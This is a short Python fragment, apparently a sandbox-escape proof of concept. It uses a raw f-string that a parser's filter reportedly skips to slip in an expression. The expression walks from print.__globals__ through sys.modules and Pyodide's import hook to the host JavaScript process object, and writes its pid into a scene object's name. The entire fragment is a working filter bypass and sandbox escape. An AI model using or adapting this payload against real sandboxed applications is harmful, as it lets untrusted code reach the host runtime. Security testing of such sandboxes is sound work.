# the same through a raw f-string: lezer skips "\{" in raw strings too
pid = rf"\{print.__globals__['sys'].modules['_pyodide._importhook'].jsfinder.jsproxies['js'].process.pid}"
scene.objects["cube"].name = pid
